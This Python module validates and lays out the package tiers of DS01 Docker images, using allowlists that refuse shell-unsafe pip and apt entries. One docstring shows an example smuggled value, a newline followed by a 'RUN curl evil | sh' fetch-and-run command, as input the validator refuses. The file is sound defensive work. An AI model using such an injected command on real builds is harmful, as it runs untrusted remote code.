"""Package tiers of DS01 images: what each layer installs, validated before any rendering.

An image is built in tiers (issue 5), each its own Docker layer, in a fixed order so that
Docker's cache is reused and a change rebuilds only from the tier that changed:

1. **framework** - the base image itself (an AIME image, or ``--base``); nothing installed;
2. **base** - Jupyter (jupyterlab, ipykernel, ipywidgets) and core data science (pandas,
   scipy, scikit-learn, matplotlib, seaborn); ``--no-jupyter`` / ``--no-datascience``;
3. **use case** - one curated set per ``--type`` (:data:`USE_CASE_PACKAGES`);
4. **custom** - the user's own ``--pip`` / ``--apt`` packages.

``--requirements FILE`` replaces tiers 2 and 3 with the file's contents (its own layer, in
their place). DS01 also installs a small **system** apt tier (sudo, git, curl, ...) right
after the framework: it is the same in every image, so every image shares that layer.

Duplicates across tiers are removed by PEP 503 normalised name; the rule is in
:func:`plan_packages`. Every entry a user typed is checked here, and refused with
:class:`~ds01.errors.UsageError` (exit 2), before it can reach a Dockerfile: a pip entry must
be a PEP 508 requirement written with a small, shell-inert alphabet (no quotes, ``$``,
backticks, backslashes, newlines, ``;``, ``|``, ``&``, URLs or pip options); an apt entry must
be a Debian package name, optionally ``=version``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, replace
from enum import StrEnum
from types import MappingProxyType
from typing import NoReturn, TypeVar

from packaging.requirements import InvalidRequirement, Requirement
from packaging.utils import canonicalize_name

from ds01.errors import UsageError

__all__ = [
    "DATA_SCIENCE_PACKAGES",
    "JUPYTER_PACKAGES",
    "SYSTEM_APT_PACKAGES",
    "USE_CASE_PACKAGES",
    "AptSpec",
    "CustomTier",
    "Duplicate",
    "Override",
    "PackagePlan",
    "PipSpec",
    "Tier",
    "TierName",
    "UseCase",
    "parse_apt_specs",
    "parse_pip_specs",
    "parse_requirements",
    "parse_use_case",
    "plan_packages",
    "split_package_list",
]


class UseCase(StrEnum):
    """``--type``: which curated package set tier 3 installs."""

    ML = "ml"
    CV = "cv"
    NLP = "nlp"
    RL = "rl"
    AUDIO = "audio"
    TS = "ts"
    LLM = "llm"
    NONE = "none"


class TierName(StrEnum):
    """The layers DS01 renders, in build order (the framework is the FROM line)."""

    SYSTEM = "system"
    BASE = "base"
    USE_CASE = "use-case"
    REQUIREMENTS = "requirements"
    CUSTOM = "custom"


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


JUPYTER_PACKAGES: tuple[str, ...] = _words("jupyterlab ipykernel ipywidgets")
DATA_SCIENCE_PACKAGES: tuple[str, ...] = _words("pandas scipy scikit-learn matplotlib seaborn")

#: Tier 3. Started from the existing DS01's sets (reference §5), revised for late 2026:
#: cv drops ``albumentations`` (unmaintained since mid-2025; its successor is AGPL) and
#: ``ultralytics`` (AGPL, and it pulls the GUI ``opencv-python``, which clobbers
#: ``opencv-python-headless``'s ``cv2``), adding ``scikit-image``; nlp drops ``tokenizers``
#: and ``safetensors`` (hard dependencies of ``transformers`` anyway); ts swaps ``prophet``
#: (low-activity maintenance, heavy Stan backend) for ``statsforecast``; llm drops ``vllm``
#: (it pins an exact torch and would replace the framework's torch and CUDA libraries: use a
#: vLLM base image instead) and ``langchain`` (a fast-moving application framework split into
#: many integration packages), adding ``trl`` and ``sentencepiece``. All are still one
#: ``--pip`` away.
USE_CASE_PACKAGES: Mapping[UseCase, tuple[str, ...]] = MappingProxyType(
    {
        UseCase.ML: _words("xgboost lightgbm catboost optuna shap"),
        UseCase.CV: _words("timm kornia opencv-python-headless scikit-image"),
        UseCase.NLP: _words("transformers datasets accelerate sentencepiece peft evaluate"),
        UseCase.RL: _words("gymnasium stable-baselines3"),
        UseCase.AUDIO: _words("librosa soundfile audiomentations"),
        UseCase.TS: _words("statsmodels statsforecast darts"),
        UseCase.LLM: _words("transformers accelerate peft trl bitsandbytes einops sentencepiece"),
        UseCase.NONE: (),
    }
)

#: Everyday tools every DS01 image gets (installed only where apt-get exists). ``sudo`` is
#: here, in a layer shared by all users, so the per-user layer never has to run apt.
SYSTEM_APT_PACKAGES: tuple[str, ...] = _words(
    "sudo ca-certificates curl wget git less nano htop procps unzip"
)

_MAX_ENTRY = 200
# What a pip entry may contain as typed (requirements lines may space out operators), and
# what its canonical form may contain once packaging has re-rendered it. Neither alphabet
# holds a character the shell or the Dockerfile parser gives meaning to inside single quotes.
_PIP_TYPED_CHAR = re.compile(r"[A-Za-z0-9._\-\[\],<>=!~*+() ]")
_PIP_RENDERED = re.compile(r"[A-Za-z0-9._\-\[\],<>=!~*+]+")
_APT_NAME = re.compile(r"[a-z0-9][a-z0-9+.-]+")
_APT_VERSION = re.compile(r"(?:[0-9]+:)?[0-9][A-Za-z0-9.+~-]*")


class _Rejected(Exception):
    """Internal: one entry is unusable; ``args[0]`` says why. Always becomes a UsageError."""


@dataclass(frozen=True)
class PipSpec:
    """One validated pip requirement. ``text`` is what goes into the Dockerfile."""

    name: str  # PEP 503 normalised
    text: str  # packaging's canonical rendering, e.g. "numpy<3,>=1.26"
    extras: tuple[str, ...] = ()
    specifier: str = ""

    @property
    def pinned(self) -> bool:
        """True when a version specifier was given."""
        return bool(self.specifier)

    def __str__(self) -> str:
        return self.text


@dataclass(frozen=True)
class AptSpec:
    """One validated Debian package, optionally with ``=version``."""

    name: str
    version: str | None = None

    @property
    def pinned(self) -> bool:
        return self.version is not None

    @property
    def text(self) -> str:
        return self.name if self.version is None else f"{self.name}={self.version}"

    def __str__(self) -> str:
        return self.text


def _bad_chars(text: str, allowed: re.Pattern[str]) -> str:
    bad = sorted({c for c in text if not allowed.fullmatch(c)})
    return " ".join(repr(c) for c in bad)


def _pip_spec(text: str, *, spaces_allowed: bool = False) -> PipSpec:
    if not text.strip():
        raise _Rejected("it is empty")
    if len(text) > _MAX_ENTRY:
        raise _Rejected(f"it is longer than {_MAX_ENTRY} characters")
    stripped = text.strip()
    if stripped.startswith("-"):
        raise _Rejected("pip options are not accepted, only package requirements")
    if "@" in text or "://" in text:
        raise _Rejected(
            "direct references ('name @ URL' or a file path) are refused: DS01 installs "
            "only named packages from the package index"
        )
    if ";" in text:
        raise _Rejected(
            "environment markers ('; python_version ...') are not supported: the image has "
            "exactly one Python, so give the version you want instead"
        )
    bad = _bad_chars(text, _PIP_TYPED_CHAR)
    if bad:
        raise _Rejected(f"it contains characters that can't go on a Dockerfile line: {bad}")
    if " " in text and not spaces_allowed:
        raise _Rejected(
            f"it contains spaces; write it without them, e.g. {stripped.replace(' ', '')!r}"
        )
    try:
        req = Requirement(stripped)
    except InvalidRequirement as exc:
        reason = str(exc).splitlines()[0] if str(exc) else "unparseable"
        raise _Rejected(f"it is not a valid PEP 508 requirement ({reason})") from exc
    if req.url is not None or req.marker is not None:  # excluded above; kept as a backstop
        raise _Rejected("URLs and environment markers are refused")
    rendered = str(req)
    if not _PIP_RENDERED.fullmatch(rendered):
        raise _Rejected(f"its canonical form {rendered!r} is not safe to write")
    return PipSpec(
        name=canonicalize_name(req.name),
        text=rendered,
        extras=tuple(sorted(req.extras)),
        specifier=str(req.specifier),
    )


def _apt_spec(text: str) -> AptSpec:
    if not text:
        raise _Rejected("it is empty")
    if len(text) > _MAX_ENTRY:
        raise _Rejected(f"it is longer than {_MAX_ENTRY} characters")
    name, sep, version = text.partition("=")
    if not _APT_NAME.fullmatch(name):
        if name.lower() != name and _APT_NAME.fullmatch(name.lower()):
            raise _Rejected(f"Debian package names are lower case: {name.lower()!r}")
        raise _Rejected(
            "not a Debian package name (lower-case letters, digits, '+', '-', '.'; at least "
            "two characters; no ':arch' or '/release' suffix)"
        )
    if not sep:
        return AptSpec(name=name)
    if not _APT_VERSION.fullmatch(version):
        raise _Rejected(
            f"{version!r} is not a Debian version ([epoch:]upstream[-revision], starting "
            "with a digit)"
        )
    return AptSpec(name=name, version=version)


def _shown(entry: str) -> str:
    return repr(entry if len(entry) <= 80 else entry[:77] + "...")


def _refuse(what: str, problems: Sequence[tuple[str, str]], hint: str) -> NoReturn:
    listed = "\n".join(f"  {entry}: {reason}" for entry, reason in problems[:20])
    more = f"\n  ... and {len(problems) - 20} more" if len(problems) > 20 else ""
    raise UsageError(
        f"{what}; nothing was written or built:\n{listed}{more}",
        hint=hint,
        code="invalid_package",
        details={"invalid": [{"entry": e, "reason": r} for e, r in problems]},
    )


_PIP_HINT = (
    "Give each package as a PEP 508 requirement without spaces, e.g. 'pandas' or "
    "'numpy>=1.26,<3'; separate packages with spaces."
)
_APT_HINT = "Give Debian package names such as 'ffmpeg' or 'libsndfile1=1.2.0-1'."


def split_package_list(value: str) -> list[str]:
    """Split a ``--pip "a b"`` / ``--apt "a b"`` value into entries.

    Only spaces and tabs separate entries: a newline (or any other character) stays inside
    its entry, so ``'x\\nRUN curl evil | sh'`` reaches validation whole and is refused.
    """
    return [word for word in re.split(r"[ \t]+", value) if word]


def _collect_pip(
    items: Iterable[str], source: str, problems: list[tuple[str, str]]
) -> list[PipSpec]:
    specs: list[PipSpec] = []
    for item in items:
        try:
            specs.append(_pip_spec(item))
        except _Rejected as exc:
            problems.append((f"{source} {_shown(item)}", str(exc)))
    return specs


def _collect_apt(
    items: Iterable[str], source: str, problems: list[tuple[str, str]]
) -> list[AptSpec]:
    specs: list[AptSpec] = []
    for item in items:
        try:
            specs.append(_apt_spec(item))
        except _Rejected as exc:
            problems.append((f"{source} {_shown(item)}", str(exc)))
    return specs


def parse_pip_specs(items: Iterable[str], *, source: str = "--pip") -> tuple[PipSpec, ...]:
    """Validate pip entries (one requirement each); refuse all offenders at once (exit 2)."""
    problems: list[tuple[str, str]] = []
    specs = _collect_pip(items, source, problems)
    if problems:
        _refuse("Some pip packages can't be used", problems, _PIP_HINT)
    return tuple(specs)


def parse_apt_specs(items: Iterable[str], *, source: str = "--apt") -> tuple[AptSpec, ...]:
    """Validate apt entries (``name`` or ``name=version``); refuse all offenders (exit 2)."""
    problems: list[tuple[str, str]] = []
    specs = _collect_apt(items, source, problems)
    if problems:
        _refuse("Some apt packages can't be used", problems, _APT_HINT)
    return tuple(specs)


_OPTION_ADVICE = (
    ("-r", "nested requirement files are not followed: paste that file's lines here"),
    ("--requirement", "nested requirement files are not followed: paste that file's lines here"),
    ("-c", "constraint files are not supported: pin the versions in this file instead"),
    ("--constraint", "constraint files are not supported: pin the versions here instead"),
    ("-e", "editable installs need your source tree: install it inside the container"),
    ("--editable", "editable installs need your source tree: install it inside the container"),
    ("-i", "index options are set by the administrator (build.pip_index_url)"),
    ("--index-url", "index options are set by the administrator (build.pip_index_url)"),
    ("--extra-index-url", "index options are set by the administrator (build.pip_index_url)"),
)


def _requirement_line(line: str) -> PipSpec:
    if line.endswith("\\"):
        raise _Rejected(
            "line continuations are not supported; put each requirement on one line "
            "(pip-compile: use --no-generate-hashes)"
        )
    if line.startswith("-"):
        option = re.split(r"[ =]", line, maxsplit=1)[0]
        advice = dict(_OPTION_ADVICE).get(option, "pip options are not applied by DS01")
        raise _Rejected(f"option line {option!r} refused: {advice}")
    if re.search(r"\s--?[A-Za-z]", line):
        raise _Rejected("per-requirement options (such as --hash) are not supported")
    if "@" in line and "file:" in line:
        raise _Rejected(
            "a direct reference to a local file (typical of 'pip freeze' in a conda "
            "environment); export with 'pip list --format=freeze' instead"
        )
    return _pip_spec(line, spaces_allowed=True)


def _collect_requirements(
    text: str, filename: str, problems: list[tuple[str, str]]
) -> list[PipSpec]:
    specs: list[PipSpec] = []
    for number, raw in enumerate(text.removeprefix("\ufeff").splitlines(), start=1):
        line = re.sub(r"(^|\s)#.*$", "", raw).strip()
        if not line:
            continue
        try:
            specs.append(_requirement_line(line))
        except _Rejected as exc:
            problems.append((f"{filename}:{number} {_shown(raw)}", str(exc)))
    return specs


_REQUIREMENTS_HINT = (
    "Keep one requirement per line, such as 'pandas>=2' or 'torch==2.5.1'; remove option "
    "lines, URLs and environment markers."
)


def parse_requirements(text: str, *, filename: str = "requirements.txt") -> tuple[PipSpec, ...]:
    """Parse a requirements file's contents: one requirement per line.

    Blank lines and comments (``#`` at the start or after whitespace) are skipped. Option
    lines (``-r``, ``-e``, ``--index-url``, ...) are **refused**, not dropped: a user who
    wrote them expects them to apply, and silently ignoring them builds something else.
    Every offending line is reported with its number (exit 2).
    """
    problems: list[tuple[str, str]] = []
    specs = _collect_requirements(text, filename, problems)
    if problems:
        _refuse(f"{filename} has lines DS01 can't use", problems, _REQUIREMENTS_HINT)
    return tuple(specs)


def parse_use_case(value: str) -> UseCase:
    """``--type`` value to :class:`UseCase`; anything else exits 2 listing the choices."""
    try:
        return UseCase(value.strip().lower())
    except ValueError:
        choices = ", ".join(u.value for u in UseCase)
        raise UsageError(
            f"Unknown --type {value!r}.", hint=f"Choose one of: {choices}.", code="bad_type"
        ) from None


@dataclass(frozen=True)
class Tier:
    """One rendered layer: its name, what it holds (for the tiers label) and its packages."""

    name: TierName
    tags: tuple[str, ...]
    pip: tuple[PipSpec, ...] = ()
    apt: tuple[AptSpec, ...] = ()

    @property
    def empty(self) -> bool:
        return not self.pip and not self.apt


@dataclass(frozen=True)
class Duplicate:
    """An entry left out because an earlier tier already installs that package."""

    entry: str
    tier: TierName
    kept_in: TierName


@dataclass(frozen=True)
class Override:
    """An entry kept although an earlier tier names the package: it asks for more."""

    entry: str
    tier: TierName
    earlier: TierName


@dataclass(frozen=True)
class CustomTier:
    """Tier 4, the only tier ``image update`` edits. Entries keep the user's order."""

    pip: tuple[PipSpec, ...] = ()
    apt: tuple[AptSpec, ...] = ()

    @property
    def empty(self) -> bool:
        return not self.pip and not self.apt

    def added(self, *, pip: Iterable[str] = (), apt: Iterable[str] = ()) -> CustomTier:
        """This tier plus validated entries; a package already here is replaced in place
        (so ``--add-pip pandas==2.2`` re-pins it), a new one is appended."""
        problems: list[tuple[str, str]] = []
        new_pip = _collect_pip(pip, "--add-pip", problems)
        new_apt = _collect_apt(apt, "--add-apt", problems)
        if problems:
            _refuse("Some packages can't be added", problems, _PIP_HINT + " " + _APT_HINT)
        return CustomTier(pip=_merge(self.pip, new_pip), apt=_merge(self.apt, new_apt))

    def removed(self, names: Iterable[str]) -> CustomTier:
        """This tier without the named packages (pip names compared PEP 503-normalised).

        A name not in this tier exits 2: packages of the other tiers can't be removed here.
        """
        wanted = list(names)
        pip_drop = {canonicalize_name(n) for n in wanted}
        apt_drop = set(wanted)
        pip_have = {s.name for s in self.pip}
        apt_have = {s.name for s in self.apt}
        missing = [n for n in wanted if canonicalize_name(n) not in pip_have and n not in apt_have]
        if missing:
            raise UsageError(
                "Not in this image's custom tier: " + ", ".join(_shown(n) for n in missing),
                hint="--remove takes packages added with --pip/--apt/--add-pip/--add-apt. "
                "To drop a base or use-case package, create the image again without it.",
                code="not_in_custom_tier",
            )
        return CustomTier(
            pip=tuple(s for s in self.pip if s.name not in pip_drop),
            apt=tuple(s for s in self.apt if s.name not in apt_drop),
        )


_Spec = TypeVar("_Spec", PipSpec, AptSpec)


def _merge(old: Sequence[_Spec], new: Sequence[_Spec]) -> tuple[_Spec, ...]:
    merged = list(old)
    for spec in new:
        at = next((i for i, s in enumerate(merged) if s.name == spec.name), None)
        if at is None:
            merged.append(spec)
        else:
            merged[at] = spec
    return tuple(merged)


@dataclass(frozen=True)
class PackagePlan:
    """The ordered tiers of one image, plus what de-duplication left out (for display)."""

    tiers: tuple[Tier, ...]
    duplicates: tuple[Duplicate, ...] = ()
    overrides: tuple[Override, ...] = ()
    use_case: UseCase = UseCase.NONE

    def tier(self, name: TierName) -> Tier | None:
        return next((t for t in self.tiers if t.name == name), None)

    @property
    def custom(self) -> CustomTier:
        tier = self.tier(TierName.CUSTOM)
        return CustomTier() if tier is None else CustomTier(pip=tier.pip, apt=tier.apt)

    def tier_labels(self) -> tuple[str, ...]:
        """Value of the image's tiers label: ``framework`` then what each non-empty tier
        holds, e.g. ``("framework", "system", "jupyter", "datascience", "cv", "custom")``."""
        return ("framework", *(tag for t in self.tiers if not t.empty for tag in t.tags))


def _dedupe(tiers: Sequence[Tier]) -> PackagePlan:
    """Apply the duplicate rule (see :func:`plan_packages`) across the tiers, in order."""
    seen_pip: dict[str, tuple[TierName, PipSpec]] = {}
    seen_apt: dict[str, tuple[TierName, AptSpec]] = {}
    duplicates: list[Duplicate] = []
    overrides: list[Override] = []
    conflicts: list[tuple[str, str]] = []
    out: list[Tier] = []
    for tier in tiers:
        kept_pip: list[PipSpec] = []
        for spec in tier.pip:
            earlier = seen_pip.get(spec.name)
            if earlier is None:
                seen_pip[spec.name] = (tier.name, spec)
                kept_pip.append(spec)
                continue
            where, first = earlier
            asks_more = (spec.pinned and spec.specifier != first.specifier) or not set(
                spec.extras
            ) <= set(first.extras)
            if not asks_more:
                duplicates.append(Duplicate(spec.text, tier.name, where))
            elif where == tier.name:
                conflicts.append((f"{first.text} and {spec.text}", f"both in the {where} tier"))
            else:
                overrides.append(Override(spec.text, tier.name, where))
                seen_pip[spec.name] = (tier.name, spec)
                kept_pip.append(spec)
        kept_apt: list[AptSpec] = []
        for apt in tier.apt:
            earlier_apt = seen_apt.get(apt.name)
            if earlier_apt is None:
                seen_apt[apt.name] = (tier.name, apt)
                kept_apt.append(apt)
            elif not apt.pinned or apt.version == earlier_apt[1].version:
                duplicates.append(Duplicate(apt.text, tier.name, earlier_apt[0]))
            elif earlier_apt[0] == tier.name:
                conflicts.append((f"{earlier_apt[1].text} and {apt.text}", "both in one tier"))
            else:
                overrides.append(Override(apt.text, tier.name, earlier_apt[0]))
                seen_apt[apt.name] = (tier.name, apt)
                kept_apt.append(apt)
        out.append(replace(tier, pip=tuple(kept_pip), apt=tuple(kept_apt)))
    if conflicts:
        _refuse(
            "Some packages are named twice with different versions",
            conflicts,
            "Name each package once per tier.",
        )
    return PackagePlan(tiers=tuple(out), duplicates=tuple(duplicates), overrides=tuple(overrides))


def _fixed(names: Iterable[str]) -> tuple[PipSpec, ...]:
    return tuple(_pip_spec(n) for n in names)


def plan_packages(
    *,
    use_case: UseCase = UseCase.NONE,
    jupyter: bool = True,
    datascience: bool = True,
    pip: Sequence[str] = (),
    apt: Sequence[str] = (),
    requirements: str | None = None,
    requirements_name: str = "requirements.txt",
    system_tools: bool = True,
) -> PackagePlan:
    """Validate every entry and lay out the tiers of one image.

    ``pip``/``apt`` are single entries (split a flag's value with
    :func:`split_package_list`). ``requirements`` is the *contents* of ``--requirements
    FILE``: it replaces tiers 2-3 (``jupyter``/``datascience`` are then ignored, and a
    ``use_case`` other than ``none`` is refused as contradictory). All invalid entries of
    all sources are reported together (exit 2).

    Duplicate rule: the first tier that names a package installs it, and a later mention
    that asks for nothing more (no specifier, or the same one, and no new extras) is left
    out and listed in :attr:`PackagePlan.duplicates`. A later mention that *does* ask for
    more (``pandas==2.2`` after the base tier's ``pandas``) is kept in its own tier, where
    pip moves the package to what was asked, and listed in :attr:`PackagePlan.overrides`.
    Earlier tiers never change because of a later one: that is what keeps an edit of the
    custom tier from rebuilding tiers 2-3. The same package twice in one tier with
    different specifiers is refused.
    """
    if requirements is not None and use_case is not UseCase.NONE:
        raise UsageError(
            f"--requirements replaces the use-case tier, so --type {use_case.value} can't be "
            "used with it.",
            hint="Give either --requirements FILE or --type, not both.",
            code="conflicting_flags",
        )
    problems: list[tuple[str, str]] = []
    custom_pip = _collect_pip(pip, "--pip", problems)
    custom_apt = _collect_apt(apt, "--apt", problems)
    required: list[PipSpec] = []
    if requirements is not None:
        required = _collect_requirements(requirements, requirements_name, problems)
    if problems:
        _refuse("Some packages can't be used", problems, _PIP_HINT + " " + _APT_HINT)

    tiers: list[Tier] = []
    if system_tools:
        system_apt = tuple(_apt_spec(n) for n in SYSTEM_APT_PACKAGES)
        tiers.append(Tier(TierName.SYSTEM, ("system",), apt=system_apt))
    if requirements is not None:
        tiers.append(Tier(TierName.REQUIREMENTS, ("requirements",), pip=tuple(required)))
    else:
        base_tags = ("jupyter",) * jupyter + ("datascience",) * datascience
        base = JUPYTER_PACKAGES * jupyter + DATA_SCIENCE_PACKAGES * datascience
        tiers.append(Tier(TierName.BASE, base_tags, pip=_fixed(base)))
        tiers.append(
            Tier(TierName.USE_CASE, (use_case.value,), pip=_fixed(USE_CASE_PACKAGES[use_case]))
        )
    tiers.append(Tier(TierName.CUSTOM, ("custom",), pip=tuple(custom_pip), apt=tuple(custom_apt)))
    plan = _dedupe(tiers)
    return replace(plan, use_case=use_case)
